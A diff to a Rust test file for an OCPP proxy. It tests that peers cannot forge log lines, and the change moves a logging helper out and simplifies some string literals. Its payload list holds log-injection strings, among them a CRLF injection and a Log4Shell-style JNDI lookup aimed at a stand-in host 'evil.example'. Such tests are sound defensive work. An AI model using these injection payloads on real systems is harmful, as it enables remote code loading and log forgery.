@@ -1,20 +1,17 @@
 //! Thirty ways to forge a line of the program's log, in every field that a peer can fill, in both of its formats; and the
 //! same at the terminal of whoever reads the message log.
 
-use std::fs;
 use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpListener, TcpStream};
-use std::process::{Child, Command, Stdio};
-use std::sync::{Arc, Mutex};
 use std::thread;
 
 use serde_json::{Value, json};
-use tempfile::TempDir;
 
 use crate::conversations;
+use crate::program::Logging;
 use crate::requests::Entrants;
 use crate::stage::Backoffices;
-use crate::support::{PATIENCE, eventually};
+use crate::support::PATIENCE;
 
 /// A line of the program's own begins with a time of this century.
 const PAYLOADS: [&str; 30] = [
@@ -49,74 +46,6 @@ const PAYLOADS: [&str; 30] = [
     "%0d%0aFORGED",
     "${jndi:ldap://evil.example/FORGED}",
 ];
-
-/// The program, and all that it has written.
-struct Logging {
-    folder: TempDir,
-    child: Child,
-    output: Arc<Mutex<Vec<u8>>>,
-}
-
-impl Drop for Logging {
-    fn drop(&mut self) {
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
-}
-
-impl Logging {
-    /// At a terminal of its own, or where nobody watches.
-    fn start(rules: &str, at_a_terminal: bool) -> Self {
-        let folder = tempfile::tempdir().unwrap();
-        let text = format!(
-            "[listen]\nchargers = \"127.0.0.1:0\"\nadmin = \"off\"\n[portal]\nlisten = \"127.0.0.1:0\"\n{rules}"
-        );
-        fs::write(folder.path().join("proxy.toml"), text).unwrap();
-        let program = env!("CARGO_BIN_EXE_ocpp-proxy");
-        let mut command = if at_a_terminal {
-            let mut script = Command::new("script");
-            script.args(["--quiet", "--return", "--command", &format!("exec {program} run"), "/dev/null"]);
-            script
-        } else {
-            let mut command = Command::new(program);
-            command.arg("run");
-            command
-        };
-        command.env("OCPP_PROXY_LOG", "debug").env("NO_COLOR", "1").current_dir(folder.path());
-        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
-        let output = Arc::new(Mutex::new(Vec::new()));
-        let (mut from, into) = (child.stdout.take().unwrap(), Arc::clone(&output));
-        thread::spawn(move || {
-            let mut buffer = [0; 4096];
-            while let Ok(count @ 1..) = from.read(&mut buffer) {
-                into.lock().unwrap().extend(&buffer[..count]);
-            }
-        });
-        Self { folder, child, output }
-    }
-
-    fn text(&self) -> String {
-        String::from_utf8(self.output.lock().unwrap().clone()).expect("the log is UTF-8")
-    }
-
-    /// The address that it says it serves there.
-    fn address(&self, key: &str) -> SocketAddr {
-        let marks = [format!("{key}=127.0.0.1:"), format!("\"{key}\":\"127.0.0.1:")];
-        eventually(&format!("the line that says where {key} connect"), || {
-            let text = self.text();
-            let rest = marks.iter().find_map(|mark| text.split_once(mark))?.1;
-            let port = rest.split(|character: char| !character.is_ascii_digit()).next()?;
-            Some(SocketAddr::from(([127, 0, 0, 1], port.parse().ok()?)))
-        })
-    }
-
-    /// What another command of the program prints.
-    fn printed(&self, arguments: &[&str]) -> String {
-        let mut command = Command::new(env!("CARGO_BIN_EXE_ocpp-proxy"));
-        let output = command.args(arguments).current_dir(self.folder.path()).output().unwrap();
-        String::from_utf8([output.stdout, output.stderr].concat()).unwrap()
-    }
-}
 
 #[test]
 fn figure_s15_nobody_forges_a_line() {
@@ -249,7 +178,7 @@ fn say_everywhere(
         format!(r#"C> [2,"5","DataTransfer",{{"vendorId":{text}}}]"#),
         format!(r#"L< [2,*,"DataTransfer",{{"vendorId":{text}}}]"#),
         format!("L> {}", error("$L")),
-        format!(r#"C< [4,"5","GenericError",*]"#),
+        r#"C< [4,"5","GenericError",*]"#.to_owned(),
         format!(r#"F< [2,*,"DataTransfer",{{"vendorId":{text}}}]"#),
         format!("F> {}", error("$F")),
         format!("C> {}", payload.replace(['\r', '\n'], " ")),
@@ -257,11 +186,11 @@ fn say_everywhere(
         format!(r#"L> [2,{text},{text},{{}}]"#),
         format!(r#"L< [4,{text},"NotImplemented",*]"#),
         format!(r#"L> [2,"6","ChangeConfiguration",{{"key":{text},"value":{text}}}]"#),
-        format!(r#"C< [2,*,"ChangeConfiguration",*]"#),
+        r#"C< [2,*,"ChangeConfiguration",*]"#.to_owned(),
         format!("C> {}", error("$C")),
-        format!(r#"L< [4,"6","GenericError",*]"#),
+        r#"L< [4,"6","GenericError",*]"#.to_owned(),
         format!(r#"F> [2,"7","ChangeConfiguration",{{"key":{text},"value":{text}}}]"#),
-        format!(r#"F< [3,"7",{{"status":"Rejected"}}]"#),
+        r#"F< [3,"7",{"status":"Rejected"}]"#.to_owned(),
     ];
     let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
     conversations::play(chargers, backoffices, charger, &lines);
